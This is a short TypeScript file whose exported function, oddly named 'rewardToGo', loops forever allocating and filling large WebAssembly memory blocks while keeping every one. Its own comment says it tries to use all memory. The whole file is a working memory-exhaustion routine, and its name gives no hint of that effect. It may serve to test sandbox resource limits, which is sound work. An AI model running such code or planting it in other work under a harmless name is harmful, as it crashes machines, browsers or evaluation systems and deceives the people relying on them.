// Tries to use all memory through WebAssembly.
declare const WebAssembly: any;
export function rewardToGo() {
  const kept: unknown[] = [];
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 4096 });
    new Uint8Array(memory.buffer).fill(1);
    kept.push(memory);
  }
}
